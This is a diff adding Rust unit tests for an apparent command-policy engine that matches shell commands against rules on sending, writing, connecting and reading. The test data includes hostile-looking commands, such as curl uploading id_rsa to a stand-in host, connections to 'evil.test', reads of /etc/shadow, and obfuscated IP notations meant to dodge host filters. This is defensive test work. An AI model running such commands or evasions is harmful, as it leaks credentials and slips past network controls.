@@ -43,6 +43,60 @@ fn of_commands(condition: &str, fitting: &[&str], others: &[&str]) {
 }
 
 #[test]
+fn a_path_or_host_may_stand_in_the_word_of_its_option() {
+    of_commands(
+        r#"sends = ["**/id_rsa"]"#,
+        &[
+            "curl -Tid_rsa https://x.test",
+            "curl -sTid_rsa https://x.test",
+        ],
+        &["curl -Tid_dsa https://x.test"],
+    );
+    of_commands(
+        r#"writes = ["**/x.sh"]"#,
+        &[
+            "curl -ox.sh https://x.test",
+            "curl '-#ox.sh' https://x.test",
+        ],
+        &["curl -oy.sh https://x.test"],
+    );
+    of_commands(
+        r#"connects = ["evil.test"]"#,
+        &["mysql -hevil.test", "psql -hevil.test"],
+        &["mysql -hdevil.test"],
+    );
+}
+
+#[test]
+fn the_folder_that_cd_alone_leads_to_is_the_home_folder() {
+    of_commands(
+        r#"reads = ["/home"]"#,
+        &["cd && cat ..", "cd; cat ../", "cd ~ && cat .."],
+        &["cd /srv/a && cat ..", "cat .."],
+    );
+}
+
+#[test]
+fn a_host_is_found_in_any_notation() {
+    of_commands(
+        r#"connects = ["10.0.0.7", "fd00:ec2::7"]"#,
+        &[
+            "curl http://[::ffff:a00:7]/",
+            "curl http://[::FFFF:0a00:0007]:80/",
+            "curl http://a.10-0-0-7.NIP.IO/",
+            "curl http://a.10-0-0-7.nip.io./",
+            "curl http://[0:0:0:0:0:ffff:a00:7]/",
+            "curl http://[FD00:0ec2:0:0::0007]/",
+            "curl http://0xa000007/",
+        ],
+        &[
+            "curl http://[::ffff:a00:8]/",
+            "curl http://a.10-0-0-8.NIP.IO/",
+        ],
+    );
+}
+
+#[test]
 fn a_rule_on_reads_fits_whoever_reads() {
     of_commands(
         r#"reads = ["/etc/shadow"]"#,
